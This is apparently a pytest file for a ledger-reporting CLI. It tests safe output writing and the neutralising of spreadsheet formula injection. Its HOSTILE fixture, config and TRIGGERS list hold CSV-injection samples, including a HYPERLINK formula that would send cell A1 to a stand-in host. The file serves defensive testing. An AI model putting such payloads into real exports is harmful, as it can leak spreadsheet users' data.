"""What -o and the csv/xlsx writers never do (issue 13 item 5, SPEC §5): write over a file
the command reads, replace anything but a regular file, leave some of several outputs written
when one failed, or write text a spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import stat
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT, run, write

from kfollow import render
from kfollow.errors import OptionError

LEDGER = """\
    år;period;version;konto;kontotext;ansvar;projekt;text;belopp
    2024;1;utfall;5011;Löner;10;;lön;100
    2024;1;budget;5011;Löner;10;;lön;1200
    2024;1;utfall;1221;Inventarier;;9411;dator;500
    2024;1;budget;1221;Inventarier;;9411;dator;600
    2024;1;utfall;3011;Intäkt;;;;-50
"""
CONFIG = '[investments]\n"Reinvestering/Inventarier" = ["941"]\n'
# Text a spreadsheet would run, in every text column a ledger has, and a number that stays one
HOSTILE = """\
    år;period;version;konto;kontotext;ansvar;projekt;text;belopp
    2024;1;utfall;5011;"=HYPERLINK(""http://x?""&A1)";+1+1;;@SUM(A1);100
    2024;1;budget;5011;"=HYPERLINK(""http://x?""&A1)";+1+1;;-2+3;1200
    2024;1;utfall;1221;Inventarier;;-2+3;=1+1;500
    2024;1;budget;1221;Inventarier;;-2+3;-114 196;600
    2024;1;utfall;3011;-;@x;;-;-50
"""
HOSTILE_CONFIG = '[investments]\n"@SUM(A1)/-2+3" = ["-2"]\n"=HYPERLINK(\\"x?\\"&A1)" = ["9"]\n'
HYPERLINK = '=HYPERLINK("http://x?"&A1)'
NEVER = "kfollow never writes over a file it reads; give another -o FILE"


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """tmp_path as the working folder, with led.csv and kfollow.toml (used by default) in it."""
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "led.csv", LEDGER)
    write(tmp_path / "kfollow.toml", CONFIG)
    return tmp_path


def snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every entry of a folder and its content: what a refused or failed command must leave."""
    out: dict[str, bytes | str] = {}
    for path in sorted(folder.iterdir()):
        if path.is_symlink():
            out[path.name] = f"-> {os.readlink(path)}"
        elif path.is_file():
            out[path.name] = path.read_bytes()
        else:
            out[path.name] = "folder" if path.is_dir() else "special"
    return out


# --- 1. -o never names a file the command reads ------------------------------------------------

COMMANDS = {  # command -> the arguments before -o (led.csv is the ledger)
    "variance": ["variance", "led.csv", "-q"],
    "investments": ["investments", "led.csv", "-q"],
    "projects": ["projects", "led.csv", "-q"],
    "accounts": ["accounts", "led.csv", "-q"],
    "convert": ["convert", "led.csv", "-q"],
    "reconcile": ["reconcile", "led.csv", "-q"],
    "init": ["init", "led.csv", "-q"],
}


def spelled(way: str, folder: Path, name: str) -> str:
    """Another path to the file `name` of `folder`: the same one spelled otherwise, a
    symlink to it, or a hard link to it."""
    if way == "same":
        return name
    if way == "dotted":
        return f"../{folder.name}/./{name}"
    if way == "absolute":
        return str(folder / name)
    link = folder / f"link-{name}"
    if way == "symlink":
        link.symlink_to(folder / name)
    else:
        os.link(folder / name, link)
    return link.name


@pytest.mark.parametrize("way", ["same", "dotted", "absolute", "symlink", "hardlink"])
@pytest.mark.parametrize("command", list(COMMANDS))
def test_o_naming_the_ledger_is_refused(here: Path, command: str, way: str) -> None:
    """`reconcile led.csv -o led.csv` wrote the report over the ledger: now exit 2 in every
    command, whichever way the path names the file, and the folder is as it was."""
    output = spelled(way, here, "led.csv")
    before = snapshot(here)
    result = run(*COMMANDS[command], "-o", output, ok=False)
    assert result.exit_code == 2, result.output
    assert result.stderr == f"Error: -o {Path(output)} is the ledger file led.csv: {NEVER}\n"
    assert snapshot(here) == before


@pytest.mark.parametrize("command", ["variance", "investments", "projects", "accounts", "convert", "reconcile"])
def test_o_naming_the_config_is_refused(here: Path, command: str) -> None:
    """`-o kfollow.toml` wrote over the config: refused, the one used by default and the one
    --config names (through a symlink too)."""
    before = snapshot(here)
    result = run(*COMMANDS[command], "-o", "kfollow.toml", ok=False)
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: -o kfollow.toml is the config (by default) kfollow.toml: kfollow never writes over a file it reads; "
        "give another -o FILE\n",
    )
    (here / "conf").mkdir()
    os.rename(here / "kfollow.toml", here / "conf" / "k.toml")
    (here / "k-link.toml").symlink_to(here / "conf" / "k.toml")
    before = snapshot(here / "conf")
    result = run(*COMMANDS[command], "--config", "conf/k.toml", "-o", "k-link.toml", ok=False)
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: -o k-link.toml is the --config file conf/k.toml: ")
    assert snapshot(here / "conf") == before


@pytest.mark.parametrize("option", ["--budget", "--forecast", "--outcome"])
def test_o_naming_a_file_by_version_is_refused(here: Path, option: str) -> None:
    write(here / "v.csv", "år;period;konto;belopp\n2024;1;5011;100\n")
    before = snapshot(here)
    result = run("variance", "led.csv", option, "v.csv", "-o", "./v.csv", ok=False)
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: -o v.csv is the {option} file v.csv: {NEVER}\n",
    )
    assert snapshot(here) == before


def test_o_naming_the_control_file_is_refused_among_several(here: Path) -> None:
    """reconcile -o report.xml -o control.csv: refused before anything is written, so
    report.xml does not appear either."""
    write(here / "control.csv", "rad;kolumn;belopp\nPersonalkostnader;outcome;-100\n")
    before = snapshot(here)
    result = run("reconcile", "led.csv", "--control", "control.csv", "-o", "report.xml", "-o", "control.csv", ok=False)
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: -o control.csv is the --control file control.csv: ")
    assert snapshot(here) == before


def test_o_naming_an_input_is_refused_before_it_is_read(here: Path) -> None:
    """The check comes before the load: a ledger that cannot be read (exit 3 when read) is
    refused as -o with exit 2, and kfollow.toml is not read either."""
    write(here / "bad.csv", "this is no ledger\n")
    write(here / "kfollow.toml", "[accounts\n")  # a broken config: exit 2 only from -o
    result = run("variance", "bad.csv", "-o", "bad.csv", ok=False)
    assert (result.exit_code, result.stderr.split(":")[1]) == (2, " -o bad.csv is the ledger file bad.csv")


def test_append_into_a_workbook_that_is_an_input(here: Path) -> None:
    """--append into the xlsx ledger would add a sheet to the ledger: refused."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line in LEDGER.split("\n"):
        if line.strip():
            sheet.append([int(x) if x.lstrip("-").isdigit() else x for x in line.strip().split(";")])
    book.save(here / "led.xlsx")
    before = snapshot(here)
    result = run("variance", "led.xlsx", "-o", "led.xlsx", "--append", ok=False)
    assert result.exit_code == 2 and result.stderr.startswith("Error: -o led.xlsx is the ledger file led.xlsx: ")
    assert snapshot(here) == before


def test_stdout_appended_to_the_ledger_is_refused(here: Path) -> None:
    """`kfollow accounts led.csv >> led.csv` would add the listing to the ledger: stdout
    that is an input is refused too (a real process: the test runner's stdout is no file)."""
    before = (here / "led.csv").read_bytes()
    with open(here / "led.csv", "ab") as out:
        done = subprocess.run(
            [sys.executable, "-m", "kfollow", "accounts", "led.csv", "-q"],
            stdout=out,
            stderr=subprocess.PIPE,
            env={**os.environ, "PYTHONPATH": str(ROOT)},  # this tree's kfollow, from tmp_path
        )
    assert (done.returncode, done.stderr.decode()) == (
        2,
        "Error: the output (stdout) is the ledger file led.csv: kfollow never writes over a file it reads; "
        "give -o FILE\n",
    )
    assert (here / "led.csv").read_bytes() == before


def test_two_o_naming_one_file_are_refused(here: Path) -> None:
    before = snapshot(here)
    result = run("reconcile", "led.csv", "-o", "r.txt", "-o", f"../{here.name}/r.txt", ok=False)
    assert result.exit_code == 2 and "each -o must name a different file" in result.stderr
    assert snapshot(here) == before


# --- 2. a FIFO or device is written in place; a symlink is written through ------------------------


def fifo_reader(path: Path) -> tuple[threading.Thread, list[bytes]]:
    """A thread that opens the FIFO `path` for reading and reads it to its end."""
    got: list[bytes] = []

    def read() -> None:
        with open(path, "rb") as pipe:
            got.append(pipe.read())

    thread = threading.Thread(target=read, daemon=True)  # daemon: a renamed-over FIFO has no writer
    thread.start()
    return thread, got


@pytest.mark.parametrize(
    ("command", "name", "starts"),
    [
        ("variance", "out.json", b'{\n  "table": "drift"'),
        ("investments", "out.csv", b"label,kind,level,"),
        ("projects", "out.md", b"| Projekt"),
        ("accounts", "out.csv", b"Konto,Namn,Rad,"),
        ("convert", "out.csv", "\ufeffår;period;".encode()),
        ("reconcile", "out.xml", b'<?xml version="1.0"'),
        ("init", "out.toml", b"# kfollow.toml"),
    ],
)
def test_a_fifo_is_written_in_place(here: Path, command: str, name: str, starts: bytes) -> None:
    """-o /dev/null as root replaced the device with a regular file: a FIFO (or a character
    device) is now opened and written, and stays what it is."""
    fifo = here / name
    os.mkfifo(fifo)
    thread, got = fifo_reader(fifo)
    args = [a for a in COMMANDS[command] if a != "kfollow.toml"]
    if command == "init":
        os.remove(here / "kfollow.toml")  # init reads no config
    result = run(*args, "-o", name, ok=False)
    thread.join(timeout=30)
    assert stat.S_ISFIFO(fifo.lstat().st_mode), "the FIFO was replaced"
    assert result.exit_code in (0, 1), result.output  # reconcile: 1 where a check finds an error
    assert got and got[0].startswith(starts), got
    assert sorted(p.name for p in here.iterdir() if p.name.startswith(".")) == []  # no temporary left


def test_a_character_device_is_written_in_place(tmp_path: Path) -> None:
    """A copy of /dev/null's device node made in tmp_path (never /dev itself): written in
    place, still a device after. Skipped where device nodes cannot be made or opened."""
    node = tmp_path / "null"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        with open(node, "wb") as probe:
            probe.write(b"")
    except OSError as error:
        pytest.skip(f"no device node here: {error}")
    assert render.output_kind(node) == render.IN_PLACE
    render.write_outputs([(node, b"report\n")])
    assert stat.S_ISCHR(node.lstat().st_mode)


def test_a_symlink_is_written_through(here: Path) -> None:
    """-o LINK to a regular file: the file it points to is written (atomically), the link
    stays a link. The same for --append, which adds to the workbook the link points to."""
    (here / "reports").mkdir()
    target = here / "reports" / "drift.json"
    write(target, "old\n")
    (here / "drift.json").symlink_to("reports/drift.json")
    run("variance", "led.csv", "-q", "-o", "drift.json")
    assert (here / "drift.json").is_symlink() and os.readlink(here / "drift.json") == "reports/drift.json"
    assert target.read_text("utf-8").startswith('{\n  "table": "drift"')

    run("variance", "led.csv", "-q", "-o", "reports/book.xlsx")
    (here / "book.xlsx").symlink_to("reports/book.xlsx")
    run("investments", "led.csv", "-q", "-o", "book.xlsx", "--append")
    from openpyxl import load_workbook

    assert (here / "book.xlsx").is_symlink()
    assert load_workbook(here / "reports" / "book.xlsx").sheetnames == ["Drift", "Investeringar"]


@pytest.mark.parametrize("command", ["variance", "convert", "init", "reconcile"])
def test_a_folder_or_a_file_as_folder_is_refused_before_the_load(here: Path, command: str) -> None:
    """A folder where -o's file would be (click's own check), or a file where its folder
    would be: exit 2, before the ledger is read, nothing written."""
    (here / "out.csv").mkdir()
    before = snapshot(here)
    result = run(*COMMANDS[command], "-o", "out.csv", ok=False)
    assert result.exit_code == 2 and "'out.csv' is a directory" in result.stderr
    result = run(*COMMANDS[command], "-o", "led.csv/out.csv", ok=False)
    folder = here / "led.csv"
    assert (result.exit_code, result.stderr) == (2, f"Error: -o led.csv/out.csv: the folder {folder} is not a folder\n")
    assert snapshot(here) == before


def test_append_to_a_fifo_is_refused(here: Path) -> None:
    os.mkfifo(here / "book.xlsx")
    result = run("variance", "led.csv", "-q", "-o", "book.xlsx", "--append", ok=False)
    assert result.exit_code == 2
    assert result.stderr == (
        "Error: -o book.xlsx --append: book.xlsx is no file but a FIFO or device; it holds no workbook\n"
    )


# --- 3. several outputs: all or none -------------------------------------------------------------


def test_reconcile_writes_all_or_none(here: Path) -> None:
    """reconcile -o a.xml -o x/b.txt where x is a file, so b.txt cannot be written (as root
    too): a.xml was written although the command failed. Now a.xml keeps its old content,
    no temporary file is left, and the error names x/b.txt."""
    write(here / "a.xml", "old report\n")
    write(here / "x", "a file\n")
    before = snapshot(here)
    result = run("reconcile", "led.csv", "-q", "-o", "a.xml", "-o", "x/b.txt", ok=False)
    assert (result.exit_code, result.stderr) == (2, f"Error: -o x/b.txt: the folder {here / 'x'} is not a folder\n")
    assert snapshot(here) == before
    # and with every -o writable: each written, then the report on stdout as without -o
    result = run("reconcile", "led.csv", "-q", "-o", "a.xml", "-o", "b.json", "-o", "-", ok=False)
    assert result.exit_code in (0, 1)
    assert (here / "a.xml").read_text("utf-8").startswith('<?xml version="1.0"')
    assert json.loads((here / "b.json").read_text("utf-8"))["command"] == "reconcile"
    assert result.stdout == run("reconcile", "led.csv", "-q", ok=False).stdout


def test_write_outputs_fails_at_a_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The second file's temporary cannot be made (its folder went away after the check):
    the first is not renamed, no temporary is left, the error names the second."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    write(tmp_path / "a" / "x.txt", "old\n")
    real = render._temporary

    def failing(target: Path, data: bytes) -> Path:
        if target.parent.name == "b":
            raise FileNotFoundError(2, "No such file or directory")
        return real(target, data)

    monkeypatch.setattr(render, "_temporary", failing)
    with pytest.raises(OptionError) as error:
        render.write_outputs([(tmp_path / "a" / "x.txt", b"new\n"), (tmp_path / "b" / "y.txt", b"new\n")])
    failed = tmp_path / "b" / "y.txt"
    assert error.value.problems == [f"-o {failed}: cannot write (No such file or directory); no -o file was written"]
    assert snapshot(tmp_path / "a") == {"x.txt": b"old\n"}
    assert snapshot(tmp_path / "b") == {}


def test_write_outputs_puts_back_what_it_renamed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The third rename fails: the first two files get their old content back (one was
    new: it is removed), no temporary and no kept copy is left."""
    write(tmp_path / "a.txt", "old a\n")
    write(tmp_path / "c.txt", "old c\n")
    real = os.replace

    def failing(source: str | Path, target: str | Path) -> None:
        if Path(target).name == "c.txt" and Path(source).name.startswith(".c.txt."):
            raise PermissionError(13, "Permission denied")
        real(source, target)

    monkeypatch.setattr(render.os, "replace", failing)
    outputs = [(tmp_path / "a.txt", b"new a\n"), (tmp_path / "b.txt", b"new b\n"), (tmp_path / "c.txt", b"new c\n")]
    with pytest.raises(OptionError) as error:
        render.write_outputs(outputs)
    failed = tmp_path / "c.txt"
    assert error.value.problems == [f"-o {failed}: cannot write (Permission denied); no -o file was written"]
    assert snapshot(tmp_path) == {"a.txt": b"old a\n", "c.txt": b"old c\n"}
    monkeypatch.setattr(render.os, "replace", real)
    render.write_outputs(outputs)
    assert snapshot(tmp_path) == {"a.txt": b"new a\n", "b.txt": b"new b\n", "c.txt": b"new c\n"}


def test_an_existing_file_keeps_its_mode(tmp_path: Path) -> None:
    out = write(tmp_path / "r.csv", "old\n")
    out.chmod(0o640)
    render.write_outputs([(out, b"new\n")])
    assert (out.read_bytes(), out.stat().st_mode & 0o777) == (b"new\n", 0o640)


# --- 4. no text a spreadsheet runs (SPEC §5) ---------------------------------------------------------

TRIGGERS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1", "-x"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_formula_like_text_is_neutralised(text: str) -> None:
    assert render.formula_like(text)
    assert render.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-114 196", "-1234,50", "+5", "-5.5", "-", "=", "abc", "4-5", "'=x", " =x"])
def test_numbers_and_plain_text_stay(text: str) -> None:
    assert not render.formula_like(text)
    assert render.csv_cell(text) == text
    assert render.csv_cell(-114196) == -114196


def csv_cells(data: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff")), delimiter=delimiter))


def xlsx_cells(path_or_bytes: Path | bytes) -> tuple[list[str], list[list[object]]]:
    """(the sheets' XML, the first sheet's values) of a workbook."""
    from openpyxl import load_workbook

    data = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    values = [list(row) for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)]
    return sheets, values


def assert_no_formula(sheets: list[str]) -> None:
    for xml in sheets:
        assert re.search(r"<f[ >/]", xml) is None, "a formula cell"
        assert 't="e"' not in xml, "an error cell"


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "led.csv", HOSTILE)
    write(tmp_path / "kfollow.toml", HOSTILE_CONFIG)
    return tmp_path


def test_convert_csv(hostile: Path) -> None:
    """Account names, codes and text: behind a ' where a spreadsheet would run them; the
    amounts (-1234,50) and a text that is a number (-114 196) as they are."""
    rows = csv_cells(run("convert", "led.csv", "-q").stdout, ";")
    header = rows[0]
    got = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert [(r["kontotext"], r["ansvar"], r["projekt"], r["text"], r["belopp"]) for r in got] == [
        ("'" + HYPERLINK, "'+1+1", "", "'@SUM(A1)", "100,00"),
        ("'" + HYPERLINK, "'+1+1", "", "'-2+3", "1200,00"),
        ("Inventarier", "", "'-2+3", "'=1+1", "500,00"),
        ("Inventarier", "", "'-2+3", "-114 196", "600,00"),
        ("-", "'@x", "", "-", "-50,00"),
    ]


def test_convert_xlsx(hostile: Path) -> None:
    """The same texts as text cells: no formula in the sheet's XML, the text as it was."""
    run("convert", "led.csv", "-q", "-o", "out.xlsx")
    sheets, values = xlsx_cells(hostile / "out.xlsx")
    assert_no_formula(sheets)
    header = values[0]
    got = [dict(zip(header, row, strict=True)) for row in values[1:]]
    assert [(r["kontotext"], r["ansvar"], r["projekt"], r["text"], r["belopp"]) for r in got] == [
        (HYPERLINK, "+1+1", None, "@SUM(A1)", 100),
        (HYPERLINK, "+1+1", None, "-2+3", 1200),
        ("Inventarier", None, "-2+3", "=1+1", 500),
        ("Inventarier", None, "-2+3", "-114 196", 600),
        ("-", "@x", None, "-", -50),
    ]


def test_accounts_and_projects_csv(hostile: Path) -> None:
    accounts = csv_cells(run("accounts", "led.csv", "-q", "--format", "csv").stdout)
    assert [row[:2] for row in accounts] == [
        ["Konto", "Namn"],
        ["1221", "Inventarier"],
        ["3011", "-"],
        ["5011", "'" + HYPERLINK],
    ]
    projects = csv_cells(run("projects", "led.csv", "-q", "--format", "csv").stdout)
    assert projects == [
        ["Projekt", "Kategori", "Rader", "budget (kr)", "utfall (kr)"],
        ["'-2+3", "'@SUM(A1)/-2+3", "2", "600", "500"],
    ]


def test_investments_csv_and_xlsx(hostile: Path) -> None:
    """Category names from kfollow.toml: behind a ' in csv, text cells in xlsx."""
    rows = csv_cells(run("investments", "led.csv", "-q", "--format", "csv").stdout)
    assert [row[:4] for row in rows] == [
        ["label", "kind", "level", "budget"],
        ["'@SUM(A1)", "subtotal", "0", "1"],
        ["'-2+3", "row", "1", "1"],
        ['\'=HYPERLINK("x?"&A1)', "row", "0", "0"],
        ["Totala utgifter", "total", "0", "1"],
    ]
    run("investments", "led.csv", "-q", "-o", "inv.xlsx")
    sheets, values = xlsx_cells(hostile / "inv.xlsx")
    assert_no_formula(sheets)
    labels = [["@SUM(A1)", 1], ["-2+3", 1], ['=HYPERLINK("x?"&A1)', 0], ["Totala utgifter", 1]]
    assert [row[:2] for row in values[1:]] == labels


def test_report_rows_and_headers_in_csv_and_xlsx(here: Path) -> None:
    """The Drift table's labels are kfollow's own, but every text cell of its csv and xlsx
    (labels and headers, as drill-down and named versions bring from the ledger) goes
    through the one rule: a report given hostile labels and a hostile header."""
    from kfollow.api import drift_table, load_rules, map_accounts, read_ledger
    from kfollow.read import ReadOptions, Source
    from kfollow.report import ReportSpec

    rules = load_rules(None)
    ledger = map_accounts(read_ledger([Source(here / "led.csv")], ReadOptions()), rules)
    report = drift_table(ledger, rules, ReportSpec(unit="kr"))
    rows = tuple(dataclasses.replace(row, label=text) for row, text in zip(report.rows, TRIGGERS, strict=False))
    columns = (dataclasses.replace(report.columns[0], header="@budget 2024"), *report.columns[1:])
    report = dataclasses.replace(report, rows=rows, columns=columns)
    cells = csv_cells(render.render_csv(report))
    assert [row[0] for row in cells[1:]] == ["'" + t for t in TRIGGERS[: len(rows)]]
    sheets, values = xlsx_cells(render.xlsx_bytes(report))
    assert_no_formula(sheets)
    assert values[0][1] == "@budget 2024"
    # (a CR in xlsx XML is read back as LF, XML's line-end rule, unless written as &#13;, as
    # openpyxl does where lxml is installed)
    assert [row[0].replace("\r", "\n") for row in values[1:]] == [t.replace("\r", "\n") for t in TRIGGERS[: len(rows)]]
    assert 'quotePrefix="1"' in zipfile.ZipFile(io.BytesIO(render.xlsx_bytes(report))).read("xl/styles.xml").decode()


def test_listing_text_csv_only() -> None:
    """The listing writer (accounts, projects): csv neutralised, the text formats as read."""
    rows = [["\tx", "=1", 5], ["\rx", "-114 196", -5]]
    assert csv_cells(render.listing_text(["@a", "b", "c"], rows, "csv")) == [
        ["'@a", "b", "c"],
        ["'\tx", "'=1", "5"],
        ["'\rx", "-114 196", "-5"],
    ]
    assert "'" not in render.listing_text(["a", "b", "c"], rows, "markdown")


# --- text an xlsx cannot hold ----------------------------------------------------------------------


def test_convert_xlsx_refuses_a_control_character(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A text with a control character (an internal error from openpyxl before): the workbook
    cannot hold it, so convert says where it is and that CSV keeps it; nothing is written."""
    monkeypatch.chdir(tmp_path)
    rows = "år;period;version;konto;text;belopp\n2024;1;utfall;5011;ok;1\n2024;1;utfall;5011;a\x1bb;2\n"
    write(tmp_path / "ctl.csv", rows)
    result = run("convert", "ctl.csv", "-q", "-o", "out.xlsx", ok=False)
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: -o …xlsx: ctl.csv:3: text 'a\\x1bb' holds a control character that an xlsx cannot hold: "
        "write CSV (-o ledger.csv)\n",
    )
    assert not (tmp_path / "out.xlsx").exists()
    assert csv_cells(run("convert", "ctl.csv", "-q").stdout, ";")[2][4] == "a\x1bb"


def test_report_xlsx_replaces_a_control_character(here: Path) -> None:
    """A category name with a control character (kfollow.toml can write one): U+FFFD in the
    workbook, as in reconcile's JUnit XML, instead of an internal error."""
    write(here / "kfollow.toml", '[investments]\n"Re\\u0001investering" = ["941"]\n')
    run("investments", "led.csv", "-q", "-o", "inv.xlsx")
    _, values = xlsx_cells(here / "inv.xlsx")
    assert values[1][0] == "Re\ufffdinvestering"
